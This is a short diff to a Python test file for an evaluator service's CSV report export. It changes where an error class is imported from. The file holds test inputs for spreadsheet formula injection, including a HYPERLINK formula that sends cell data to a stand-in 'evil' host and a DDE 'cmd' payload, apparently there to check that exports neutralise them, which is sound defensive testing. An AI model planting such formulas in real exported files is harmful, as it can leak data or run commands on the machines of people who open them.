@@ -9,13 +9,13 @@ from typing import Any
 from uuid import UUID
 
 import pytest
+from loupe.errors import NotFound
 
 from services.evaluator.application.archive import INDEX, zip_samples
 from services.evaluator.domain.relabelling import Mark
 from services.evaluator.domain.report import SampleResult, StoredSample, Verdict
 from services.evaluator.wire import relabelling as wire
 from services.evaluator.wire.report_csv import csv_of
-from services.kit.errors import NotFound
 
 FORMULAS = ('=HYPERLINK("http://evil/"&A1)', "+1+cmd|'/c calc'!A0", "@SUM(1)", "-1+1", "\t=1")
 NOW = datetime(2026, 1, 1, tzinfo=UTC)
